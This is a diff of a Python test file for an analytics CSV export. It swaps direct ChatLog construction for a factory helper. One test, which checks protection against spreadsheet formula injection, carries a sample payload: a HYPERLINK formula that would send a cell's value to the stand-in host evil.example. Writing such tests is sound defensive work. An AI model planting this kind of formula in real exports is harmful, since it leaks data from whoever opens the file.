@@ -12,7 +12,7 @@ from core import analytics
 from core.analytics import Filters, Scope
 from core.errors import AskVideoError
 from db.models import ChatLog, Video, VideoGroup
-from tests.factories import make_account
+from tests.factories import chat_log, make_account
 
 DAY1 = datetime(2026, 11, 1, 10, 0, tzinfo=timezone.utc)
 DAY2 = datetime(2026, 11, 2, 15, 0, tzinfo=timezone.utc)
@@ -44,7 +44,7 @@ def seeded(session):
     session.flush()
 
     def log(user, group, question, feedback, shared, when, sources):
-        session.add(ChatLog(user_id=user.id, group_id=group.id, question=question, answer=f"answer to {question}",
+        session.add(chat_log(user_id=user.id, group_id=group.id, question=question, answer=f"answer to {question}",
                             mode="llm", feedback=feedback, is_shared_origin=shared, created_at=when,
                             related_videos=sources))
 
@@ -161,7 +161,7 @@ def test_a_visitors_formula_opens_as_text_in_a_spreadsheet(seeded):
     """Share-link visitors type anything; the owner opens the export in Excel."""
     session, alice, _, g1, *_ = seeded
     formula = '=HYPERLINK("https://evil.example/?"&B2,"Click")'
-    session.add(ChatLog(user_id=alice.id, group_id=g1.id, question=formula, answer="-1 is not an answer",
+    session.add(chat_log(user_id=alice.id, group_id=g1.id, question=formula, answer="-1 is not an answer",
                         mode="llm", is_shared_origin=True, created_at=DAY2, related_videos=[]))
     session.flush()
     frame = pd.read_csv(io.BytesIO(analytics.export_csv(session, Scope(alice.id), Filters())), keep_default_na=False)
